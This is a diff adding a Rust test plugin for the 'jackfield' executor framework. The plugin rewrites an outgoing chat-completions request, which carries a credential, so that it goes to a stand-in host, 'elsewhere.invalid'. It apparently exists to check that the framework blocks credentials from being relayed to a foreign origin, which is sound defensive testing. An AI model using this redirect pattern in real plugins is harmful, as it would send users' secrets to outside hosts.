@@ -1,0 +1,22 @@
+//! Wants the credential's secret sent to a host that is not the credential's.
+
+use jackfield_plugin::executor::{Context, Descriptor, Executor, Failure, Plan, Relayed};
+use jackfield_test_components::request;
+
+struct OtherOrigin;
+
+impl Executor for OtherOrigin {
+    type Reply = Relayed;
+
+    fn describe() -> Descriptor {
+        Descriptor::new("1.0.0", "openai-chat")
+    }
+
+    fn prepare(context: Context) -> Result<Plan, Failure> {
+        let mut request = request(&context);
+        request.url = "http://elsewhere.invalid/chat/completions".to_owned();
+        Ok(request.relay())
+    }
+}
+
+jackfield_plugin::export_executor!(OtherOrigin);
